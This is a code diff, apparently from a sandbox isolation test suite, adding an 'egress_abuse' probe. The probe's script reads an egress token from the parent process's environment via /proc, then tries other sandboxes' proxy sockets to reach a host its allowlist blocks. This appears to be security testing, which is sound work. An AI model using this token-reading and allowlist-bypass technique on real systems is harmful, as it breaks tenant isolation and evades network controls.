@@ -245,6 +245,37 @@ def tunnel():
     probe.terminate()
 
 
+EGRESS_ABUSE = r"""
+import glob, json, os, socket, sys
+host, port = sys.argv[1], int(sys.argv[2])
+config = json.loads(open(f"/proc/{os.getppid()}/environ").read().split("HOMEPORT_SANDBOX=", 1)[1].split("\0")[0])
+mine = config["egress"]
+out = {}
+for path in sorted(glob.glob(os.path.join(os.path.dirname(mine["socket"]), "*-egress"))):
+    s = socket.socket(socket.AF_UNIX)
+    s.connect(path)
+    s.sendall(mine["token"].encode() + f"\nGET http://{host}:{port}/ HTTP/1.0\r\n\r\n".encode())
+    data = b""
+    while chunk := s.recv(65536):
+        data += chunk
+    out["own" if path == mine["socket"] else "other"] = data.split(b"\r\n")[0].decode() or "closed"
+print(json.dumps(out))
+"""
+
+
+@app.local_entrypoint()
+def egress_abuse(host: str = "", port: int = 0):
+    """Code in a sandbox whose allowlist refuses the host tries the egress proxy of another sandbox,
+    whose socket it can see, with the token it read from its agent."""
+    walled = modal.Sandbox.create(app=app, outbound_cidr_allowlist=["10.0.0.0/8"])
+    free = modal.Sandbox.create(app=app)
+    p = walled.exec("python", "-c", EGRESS_ABUSE, host, str(port))
+    text, err = p.stdout.read(), p.stderr.read()
+    result(json.loads(text) if text.strip() else {"error": err[-800:]})
+    walled.terminate()
+    free.terminate()
+
+
 @app.local_entrypoint()
 def same_port():
     """Two sandboxes listen on one port, each reached through its own tunnel; a third takes inbound
